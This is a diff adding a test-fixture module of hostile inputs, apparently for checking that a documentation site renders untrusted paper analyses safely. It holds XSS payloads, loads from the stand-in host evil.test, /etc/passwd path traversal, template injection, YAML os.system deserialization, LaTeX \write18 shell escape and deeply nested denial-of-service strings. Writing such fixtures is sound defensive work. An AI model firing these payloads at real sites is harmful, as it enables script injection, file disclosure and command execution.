@@ -1,0 +1,187 @@
+"""Hostile text, by family. Whatever runs sets `window.__pwned` or opens a dialog; whatever leaves goes to evil.test.
+
+Made for this project; the collections of others are fetched by `scripts/vectors` and not kept.
+"""
+
+HTML = [
+    "<script>__pwned=1</script>",
+    "<ScRiPt\n>__pwned=1</sCrIpT\t>",
+    "<script src=https://evil.test/x.js></script>",
+    "<img src=x onerror=__pwned=1>",
+    "<svg/onload=__pwned=1>",
+    "<svg><script>__pwned=1</script><animate onbegin=__pwned=1 attributeName=x dur=1s>",
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=__pwned=1&gt;'>",
+    "<details open ontoggle=__pwned=1>x</details>",
+    "<input autofocus onfocus=__pwned=1>",
+    "<iframe src=javascript:parent.__pwned=1></iframe><iframe srcdoc='<script>parent.__pwned=1</script>'></iframe>",
+    "<object data=https://evil.test/x></object><embed src=https://evil.test/x>",
+    "<base href=https://evil.test/>",
+    "<meta http-equiv=refresh content='0;url=https://evil.test/'>",
+    "<link rel=stylesheet href=https://evil.test/x.css><style>@import 'https://evil.test/x.css';</style>",
+    "<form action=https://evil.test/><input name=q><button formaction=javascript:__pwned=1>x</button></form>",
+    "<video poster=https://evil.test/x><source src=https://evil.test/x></video><audio src=https://evil.test/x>",
+    "<template><img src=x onerror=__pwned=1></template><noscript><p title='</noscript><img src=x onerror=__pwned=1>'>",
+    "</p></li></ul></div></section></article></main></body></html><script>__pwned=1</script>",
+    "</title></textarea></style></noscript></script><script>__pwned=1</script>",
+    '"><script>__pwned=1</script>\' onmouseover=\'__pwned=1\' autofocus onfocus="__pwned=1" x="',
+    "--><script>__pwned=1</script><!-- ]]><script>__pwned=1</script><![CDATA[ <?php x ?>",
+    "<plaintext><xmp><listing>",
+    '<a href="x" title="<img src=x onerror=__pwned=1>',
+    "&lt;script&gt;__pwned=1&lt;/script&gt; &#60;img src=x onerror=__pwned=1&#62; &amp;lt;b&amp;gt;",
+    "<think>the model thinks aloud</think>",
+    "＜script＞__pwned=1＜/script＞ \u02bascript\u02ba ﹤img src=x onerror=__pwned=1﹥",
+]
+
+LINKS = [
+    "[a](javascript:__pwned=1) [b](JaVaScRiPt:__pwned=1) [c](javascript&colon;__pwned=1)",
+    "[a](java\tscript:__pwned=1) [b](&#106;avascript:__pwned=1) [c](\\javascript:__pwned=1) [d]( javascript:__pwned=1)",
+    "<javascript:__pwned=1> <data:text/html,<script>__pwned=1</script>> <vbscript:__pwned=1>",
+    "[a](data:text/html;base64,PHNjcmlwdD5fX3B3bmVkPTE8L3NjcmlwdD4=) [b](vbscript:x) [c](file:///etc/passwd)",
+    "[a]: javascript:__pwned=1 'x'\n[b]: <data:text/html,x>\n\n[a] [b][] [c][a]",
+    "![a](https://evil.test/pixel.png) ![b](javascript:__pwned=1) ![c](data:image/svg+xml,<svg onload=__pwned=1>)",
+    "[a](//evil.test/) [b](\\\\evil.test\\) [c](/../../../etc/passwd) [d](../../../../mkdocs.yml) [e](#__config)",
+    '[a](https://example.org/"onmouseover="__pwned=1) [b](https://example.org/ \'x" onclick="__pwned=1\')',
+    "[a](https://example.org/?q=<script>__pwned=1</script>) https://example.org/<script>__pwned=1</script>",
+    "[a](https://user:password@evil.test/) [b](https://example.org@evil.test/) <x@example.org?onclick=__pwned=1>",
+    'mailto:"><script>__pwned=1</script>@example.org www.example.org" onclick="__pwned=1',
+    "[<script>__pwned=1</script>](https://example.org) [![<b onclick=__pwned=1>](x)](javascript:__pwned=1)",
+    "[2606.00001](javascript:__pwned=1) 2606.00001<script>__pwned=1</script> 论文 1<img src=x onerror=__pwned=1>",
+    "https://evil.test/\u202egpj.exe https://xn--80ak6aa92e.test/ ftp://evil.test javascript://evil.test/%0a__pwned=1",
+]
+
+MARKDOWN = [
+    '{: onclick="__pwned=1" #__config .md-overlay style="position:fixed" }',
+    "# Heading {#__config onclick=__pwned=1}\n\n## __config\n\n## \\_\\_config\n\n### __drawer",
+    '**bold**{: #__search onmouseover="__pwned=1" }  `code`{.md-search onclick=__pwned=1}',
+    "--8<-- \"mkdocs.yml\"\n\n;--8<--\nmkdocs.yml\n;--8<--\n\n{!mkdocs.yml!} {% include 'mkdocs.yml' %}",
+    "{{ config }} {{ config.site_url }} {{ page.meta }} {{ ''.__class__.__mro__[1].__subclasses__() }} {{ 7*7 }}",
+    '{% raw %}{{ x }}{% endraw %} {% set x = 1 %} {# comment #} {%- for x in y -%} {% extends "base.html" %} }} %}',
+    "${{ secrets.GITHUB_TOKEN }} $(id) `id` $HOME %s %(x)s {0} {x!r} {__class__} \\N{DIGIT ONE}",
+    '[TOC]\n\n[[_TOC_]]\n\n!!! danger "<script>__pwned=1</script>"\n    text\n\n??? note\n\n=== "Tab"\n    text',
+    '```mermaid\ngraph TD; A["<img src=x onerror=__pwned=1>"]-->B\n```',
+    "```{.html onclick=__pwned=1 #__config}\nx\n```",
+    '```html"><script>__pwned=1</script>\n<script>__pwned=1</script>\n```\n\n~~~ js onclick=1\n</code></pre>\n~~~',
+    ":material-icon: :octocat: {++inserted++} {--gone--} {==marked==}{>>note<<} ++ctrl+alt+del++ ^^x^^ (c) -->",
+    "*[x]: <script>__pwned=1</script>\n\n[^1]: <img src=x onerror=__pwned=1>\n\nfootnote[^1] and[^__config]",
+    "| <script>__pwned=1</script> | b |\n|---|:-:|\n| <img src=x onerror=__pwned=1> | `\\|` |\n| {: onclick=1} | x |",
+    "- [ ] <input onfocus=__pwned=1 autofocus>\n- [x] done\n\n    <script>__pwned=1</script>\n\n> <script>1</script>",
+    '::: digest.plugin\n\n<!-- md:option x -->\n\n<div markdown="1" id="__config">x</div>\n\n%%% comment',
+]
+
+THEME = [
+    '<div id="__config">{"base":"https://evil.test"}</div>',
+    '<script id="__config" type="application/json">{"base":"https://evil.test","search":"https://evil.test"}</script>',
+    '<input id="__drawer" type=checkbox checked><input id="__search" checked><label for="__palette_0">x</label>',
+    '<a id=summary name=contents></a><h2 id=papers>x</h2><a id="2606.00001"></a><a name="2606.00001v1"></a>',
+    '<form id="location"><input name=hash></form><img name=getElementById><a id=document></a><img id=__md_scope>',
+    '<div class="md-overlay md-dialog md-header" data-md-component="palette" data-md-toggle="search">x</div>',
+    "<body data-md-color-scheme=slate onload=__pwned=1><html lang=xx dir=rtl class=js>",
+    '<link rel="canonical" href="https://evil.test/"><link rel=manifest href=https://evil.test/>',
+    '<meta http-equiv="Content-Security-Policy" content="script-src *"><meta name=robots content=noindex>',
+    '__md_scope=new URL(\'https://evil.test\') {"features":["navigation.instant"]} </script><script>__pwned=1</script>',
+]
+
+MATHS = [
+    "$\\href{javascript:__pwned=1}{x}$ $$\\href{data:text/html,<script>__pwned=1</script>}{x}$$",
+    '\\href{javascript:__pwned=1}{click} \\url{javascript:__pwned=1} \\url{https://evil.test/"onclick="__pwned=1}',
+    "$<img src=x onerror=__pwned=1>$ \\(<script>__pwned=1</script>\\) \\[</math><script>__pwned=1</script>\\]",
+    "$\\text{<script>__pwned=1</script>}$ $\\mbox{<img src=x onerror=__pwned=1>}$",
+    "$\\mathrm{</mtext><svg onload=__pwned=1>}$ $\\operatorname{<b onclick=__pwned=1>}$",
+    '$\\htmlId{__config}{x}$ $\\htmlClass{md-overlay}{x}$ $\\htmlStyle{position:fixed}{x}$ $\\htmlData{x="y"}{z}$',
+    "$\\class{md-overlay}{x}$ $\\style{background:url(https://evil.test)}{x}$ $\\cssId{__config}{x}$ $\\unicode{x3c}$",
+    "$\\includegraphics{https://evil.test/x.png}$ \\includegraphics[width=1in]{/etc/passwd} \\input{/etc/passwd}",
+    "\\write18{id} \\immediate\\write18{id} \\openin5=/etc/passwd \\catcode`\\<=13 \\csname x\\endcsname",
+    "$\\def\\x{\\x\\x}\\x$ $\\newcommand{\\y}{\\y\\y\\y}\\y$ $\\let\\z=\\z\\z$ \\def\\w{\\w\\w}\\w",
+    '$\\label{__config}\\tag{<b onclick=__pwned=1>}x$ $\\eqref{__config}$ $\\color{red"onclick="__pwned=1}{x}$',
+    '$$\\begin{array}{c"onclick="__pwned=1}x\\end{array}$$ $\\begin{evil}\\end{evil}$ $\\hspace{1px;color:red}$',
+    "$x$<script>__pwned=1</script>$y$ $`<script>__pwned=1</script>`$ ```math\n<script>__pwned=1</script>\n```",
+    '\\verb|<script>__pwned=1</script>| \\texttt{<img src=x onerror=__pwned=1>} \\emph{<b>} \\"{<} \\\'\\"><script>',
+    '{\\rm <svg onload=__pwned=1>} $\\sqrt[<b>]{x}$ $\\frac<script>$ \\footnote{<script>__pwned=1</script>} \\cite{"}',
+]
+
+YAML = [
+    "../../../etc/passwd ..\\..\\x /etc/passwd C:\\x file:///etc/passwd %2e%2e%2f 2606.00001/../../x con.md nul",
+    "---\ntitle: <script>__pwned=1</script>\ntemplate: evil.html\nicon: x\nhide: 3\n---\nbody\n---",
+    "--- \n...\n%YAML 1.2\n--- !!python/object/apply:os.system [id]\n&a [*a, *a] *a\n<<: *a",
+    "key: 'value' \"quoted\": {a: b} [c] - d # comment | > ! % @ ` ? : , ~",
+    "no",
+    "null",
+    "~",
+    "2026-01-01",
+    "12:30",
+    "0x10",
+    "1e3",
+    "''",
+    '"',
+    "'",
+    "\\",
+    "#",
+    "- a",
+    "? a",
+    "- ",
+    "{}",
+    "[]",
+    "=======\n||||||| base\n<<<<<<< HEAD without an end",
+    "checksum: \"0123456789abcdef\"\nschema: 2\nid: '../x'",
+    '{"schema": 1, "papers": [{"id": "x"}]} \\u0000 \\ud800 </script>',
+]
+
+UNICODE = [
+    "\u202eright to left\u202c \u2067isolate\u2069 \u200f\u200e \u061c mixed עברית and العربية with 中文",
+    "zero\u200bwidth\u200cjoin\u200der\u2060 \u00ad soft\u00adhyphen \ufe0f \u034f \u180e \U000e0041\U000e0042 \ufffd",
+    "Z\u0351\u0352\u0353" + "\u0300\u0301\u0302\u0303" * 200 + "algo",
+    "﷽" * 40 + " 𒐫" * 20 + " 👩‍👩‍👧‍👧🏳️‍🌈" * 10,
+    "w" * 3_000,
+    "很" * 2_000,
+    "a" * 60 + "@" + "b" * 200 + ".example" + "/x" * 400,
+    "İıſK\u212a ﬁ ﬀ ẞß ǅ Ω\u2126 é e\u0301 \u1e9e \u0130\u0307",
+    "tab\there\tand\tthere \u3000 wide \u00a0 fixed \u2003 em",
+]
+
+# `tests/text/test_text_bounds.py` has more of them, and longer: here they only have to meet the page.
+DEEP = [
+    ">" * 2_000 + " x",
+    "- " * 1_000 + "x",
+    "[" * 2_000 + "x" + "]" * 2_000,
+    "[a](" * 1_000,
+    "*a **b " * 500,
+    "$" + "{" * 2_000 + "}" * 2_000 + "$",
+    "\\textbf{" * 800 + "x" + "}" * 800,
+    "|" + "a|" * 200 + "\n|" + "-|" * 200 + "\n" + ("|" + "b|" * 200 + "\n") * 5,
+    "\n".join(" " * depth + "- x" for depth in range(0, 200, 2)),
+    "<div>" * 1_500,
+    "word " * 30_000,
+]
+
+FAMILIES = {
+    "html": HTML,
+    "links": LINKS,
+    "markdown": MARKDOWN,
+    "theme": THEME,
+    "maths": MATHS,
+    "yaml": YAML,
+    "unicode": UNICODE,
+    "deep": DEEP,
+}
+
+RAW_HEADERS = [
+    "<script>__pwned=1</script>: 1",
+    "'\"><img src=x onerror=__pwned=1>': 1",
+    "id: '<script>__pwned=1</script>'",
+    "id: ../../../../etc/passwd",
+    "language: '\"><script>__pwned=1</script>'",
+    "source: <img src=x onerror=__pwned=1>",
+    "model: !!python/object/apply:os.system ['<script>__pwned=1</script>']",
+    "model: [<script>__pwned=1</script>",
+    "model: *<script>__pwned=1</script>",
+    "model: {{ config }}",
+    "title: <script>__pwned=1</script>",
+    "template: <script>__pwned=1</script>.html",
+    "created: <script>__pwned=1</script>",
+    "key_findings: <script>__pwned=1</script>",
+    "score: {relevance: <script>, significance: 9}",
+    "? [<script>__pwned=1</script>]\n: 1",
+    'model: "\\x00<script>__pwned=1</script>"',
+    "tokens: {<script>__pwned=1</script>: 1}",
+]
+"""Lines that make the header of an analysis invalid; what is said of them stands on the page."""
